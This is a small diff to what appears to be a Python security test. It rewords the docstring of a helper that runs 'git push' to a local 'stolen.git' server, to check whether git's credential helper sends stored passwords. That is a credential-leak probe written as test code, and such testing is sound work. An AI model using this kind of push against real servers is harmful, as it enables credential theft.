@@ -109,7 +109,9 @@ def _ask_names(port: int, loot: bytes) -> None:
 
 
 def _push(port: int) -> None:
-    """Pushes to a server that asks for a name and a password: a credential helper of git might send them."""
+    """Pushes to a server that asks for a name and a password, because a credential helper of git might send a
+    stored password to the server.
+    """
     url = f"http://127.0.0.1:{port}/stolen.git"
     subprocess.run(
         ["git", "push", url, "HEAD:refs/heads/stolen"],
